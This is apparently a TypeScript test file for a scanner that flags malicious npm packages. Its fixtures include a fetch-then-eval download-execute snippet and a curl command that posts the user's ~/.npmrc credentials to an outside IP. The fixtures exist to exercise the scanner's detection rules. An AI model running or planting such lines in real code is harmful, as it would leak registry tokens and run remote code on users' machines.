import assert from 'node:assert/strict';
import { test } from 'node:test';
import v8 from 'node:v8';
import vm from 'node:vm';
import type { Node } from '@babel/types';
import { analyzePackage } from '../../../src/engine/analysis/analyze';
import { MAX_PARSED_CHARS } from '../../../src/engine/analysis/parseSource';
import type { PackageFile, PackageInput, Rule } from '../../../src/engine/analysis/types';
import { RULES, ruleById } from '../../../src/engine/rules/index';

function file(path: string, text: string): PackageFile {
  return { path, size: text.length, text, head: new Uint8Array(Buffer.from(text.slice(0, 64))), binary: false, truncated: false };
}

function pkg(files: PackageFile[]): PackageInput {
  const manifest = { name: 'fixture', version: '1.0.0', main: 'index.js' };
  return { name: 'fixture', version: '1.0.0', manifest, files: [file('package.json', JSON.stringify(manifest)), ...files] };
}

function probe(id: string, create: Extract<Rule, { type: 'js' }>['create']): Rule {
  return { type: 'js', meta: { id, kind: 'capability', category: 'exec', severity: 'low', specificity: 'low', description: 'test probe', maxPerFile: 50 }, create };
}

test('rules see the declarations made so far, shared by all rules of the file', () => {
  const seen: string[] = [];
  const rule = probe('probe', (context) => ({
    CallExpression: (node) => {
      if (node.type !== 'CallExpression' || node.arguments[0]?.type !== 'Identifier') return;
      const name = node.arguments[0].name;
      const init = context.initOf(name);
      seen.push(`${name}=${init ? context.evaluate(init) : init === undefined ? 'undefined' : '?'}`);
    },
  }));
  analyzePackage(pkg([file('index.js', `use(a); const a = 'one'; use(a); var b = 'x'; var b = 'y'; use(b); let c = 'c'; use(c);`)]), [rule]);
  // `a` is unknown before its declaration; `b` declared twice is ambiguous.
  assert.deepEqual(seen, ['a=undefined', 'a=one', 'b=undefined', 'c=c']);
});

test('ancestors are those of the node being visited, for every rule that asks', () => {
  const chains: string[] = [];
  const asker = (id: string) =>
    probe(id, (context) => ({
      StringLiteral: (node) => {
        if (node.type === 'StringLiteral') chains.push(`${id} ${node.value}: ${context.ancestors().map((a) => a.type).join('>')}`);
      },
    }));
  analyzePackage(pkg([file('index.js', `f('a'); if (x) { g('b'); }`)]), [asker('one'), asker('two')]);
  assert.deepEqual(chains, [
    'one a: File>Program>ExpressionStatement>CallExpression',
    'two a: File>Program>ExpressionStatement>CallExpression',
    'one b: File>Program>IfStatement>BlockStatement>ExpressionStatement>CallExpression',
    'two b: File>Program>IfStatement>BlockStatement>ExpressionStatement>CallExpression',
  ]);
});

test('a rule that throws is reported once and stops; the other rules carry on', () => {
  const thrower = probe('thrower', () => ({ CallExpression: () => { throw new Error('boom'); } }));
  const counter = probe('counter', (context) => ({ CallExpression: (node) => context.report({ node, message: 'call' }) }));
  const { findings } = analyzePackage(pkg([file('index.js', `a(); b(); c();`)]), [thrower, counter]);
  assert.deepEqual(findings.map((f) => `${f.rule} ${f.severity} ${f.message}`), [
    'thrower info Rule thrower failed (E_RULE): boom',
    'counter low call',
    'counter low call',
    'counter low call',
  ]);
});

test('no file’s syntax tree outlives its analysis', async () => {
  v8.setFlagsFromString('--expose-gc');
  const gc = vm.runInNewContext('gc') as () => void;
  const trees: WeakRef<Node>[] = [];
  const keeper = probe('keeper', () => ({ Program: (node) => void trees.push(new WeakRef(node)) }));
  const source = (i: number) => `const cp = require('child_process'); const u = 'https://example.invalid/${i}'; fetch(u).then(r => r.text()).then(eval); cp.exec('id');`;
  const files = [file('index.js', source(0)), file('lib/a.js', source(1)), file('lib/b.js', source(2))];
  const { findings } = analyzePackage(pkg(files), [...RULES, keeper]);
  assert.ok(findings.some((f) => f.rule === 'download-execute'), 'the real rules ran over the files');
  assert.equal(trees.length, 3);
  await new Promise((resolve) => setImmediate(resolve));
  gc();
  assert.deepEqual(trees.map((t) => t.deref() === undefined), [true, true, true]);
});

test('a script over the parse limit gets the text rules, and says it was not parsed', () => {
  // Padding of comments, then a line that the text-level fallback reads as exfiltration.
  const filler = `// ${'x'.repeat(100)}\n`.repeat(Math.ceil(MAX_PARSED_CHARS / 104) + 1);
  const big = `${filler}require('child_process').execSync('curl -d @$HOME/.npmrc https://198.51.100.7/collect');\n`;
  assert.ok(big.length > MAX_PARSED_CHARS);
  const { findings, files } = analyzePackage(pkg([file('dist/bundle.js', big)]), [ruleById('unparsable-source')!, ruleById('script-exfil')!]);
  const summary = files.find((f) => f.path === 'dist/bundle.js')!;
  assert.equal(summary.parsed, false);
  assert.match(summary.parseError!, /^larger than 4 MB/);
  const unparsed = findings.find((f) => f.rule === 'unparsable-source');
  assert.match(unparsed?.message ?? '', /^Did not parse dist\/bundle\.js as JavaScript: at 4\.0 MB it is larger than the 4 MB the JavaScript rules parse/);
  assert.ok(findings.some((f) => f.rule === 'script-exfil' && f.file === 'dist/bundle.js'), JSON.stringify(findings.map((f) => f.rule)));
});
